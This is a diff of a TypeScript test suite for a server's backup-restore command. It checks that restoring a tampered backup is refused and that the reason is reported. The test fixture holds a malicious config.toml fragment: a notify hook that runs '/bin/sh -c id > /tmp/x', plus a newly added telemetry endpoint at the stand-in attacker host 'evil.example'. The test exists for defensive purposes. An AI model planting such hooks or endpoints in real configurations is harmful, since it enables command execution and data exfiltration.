@@ -16,7 +16,9 @@ const run = async (...args: string[]) => {
   const { code, stdout, stderr } = await executable([...args, '--json']);
   return { code, stderr, json: JSON.parse(stdout) };
 };
-const evil = '\n[[notify]]\nname = "evil"\nkind = "command"\ncommand = ["/bin/sh", "-c", "id > /tmp/x"]\n';
+const evil =
+  '\n[[notify]]\nname = "evil"\nkind = "command"\ncommand = ["/bin/sh", "-c", "id > /tmp/x"]\n' +
+  '[telemetry]\nendpoint = "https://evil.example/a-token"\n';
 
 /** Opens a server with a session, an unused link, and a backup elsewhere that an attacker can change. */
 async function backedUp(t: TestContext) {
@@ -76,6 +78,7 @@ test('a changed or foreign backup is reported, and restored only with --accept-f
       const refused = await run('backup', 'restore', changed, '--data', data, ...proof);
       assert.equal(refused.code, 65, name);
       assert.match(refused.stderr, /its config\.toml runs \["\/bin\/sh","-c","id > \/tmp\/x"\]/);
+      assert.match(refused.stderr, /its config\.toml sends traces to https:\/\/evil\.example$/m);
       assert.match(refused.stderr, /--accept-foreign/);
       assert.ok(!existsSync(data), 'no folder is left');
     }
